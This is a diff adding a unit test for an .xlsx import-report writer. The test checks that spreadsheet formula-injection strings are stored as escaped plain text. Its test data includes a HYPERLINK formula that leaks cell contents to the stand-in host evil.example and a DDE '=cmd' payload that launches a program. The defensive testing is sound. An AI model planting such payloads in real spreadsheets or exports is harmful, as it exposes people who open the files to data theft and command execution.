@@ -87,4 +87,46 @@ describe('writeImportReport', () => {
     await workbook.xlsx.readFile(path);
     expect(workbook.worksheets[0]!.rowCount).toBe(1);
   });
+
+  it('writes text that a spreadsheet would run as a formula as plain, neutralised text', async () => {
+    const path = join(folder, 'formulas.xlsx');
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\t=1+1',
+      '\r=1+1',
+    ];
+    await writeImportReport(
+      path,
+      ['=cmd|"/c calc"!A1', 'Địa chỉ'],
+      hostile.map((text, i) => ({
+        rowNumber: i + 2,
+        cells: [text, -5],
+        problems: [{ column: '=cmd|"/c calc"!A1', message: 'x' }],
+      })),
+    );
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.readFile(path);
+    const sheet = workbook.worksheets[0]!;
+    expect(sheet.getRow(1).getCell(2).value).toBe(`'=cmd|"/c calc"!A1`);
+    hostile.forEach((text, i) => {
+      const row = sheet.getRow(i + 2);
+      // XML reads a carriage return back as a line feed.
+      expect(row.getCell(2).value).toBe(`'${text.replace('\r', '\n')}`);
+      expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
+      expect(row.getCell(2).formula).toBeUndefined();
+      // Numbers stay numbers: only text can hold a formula.
+      expect(row.getCell(3).value).toBe(-5);
+      expect(row.getCell(4).value).toBe(`'=cmd|"/c calc"!A1: x`);
+    });
+    let formulas = 0;
+    sheet.eachRow((row) =>
+      row.eachCell((cell) => {
+        if (cell.type === ExcelJS.ValueType.Formula) formulas++;
+      }),
+    );
+    expect(formulas).toBe(0);
+  });
 });
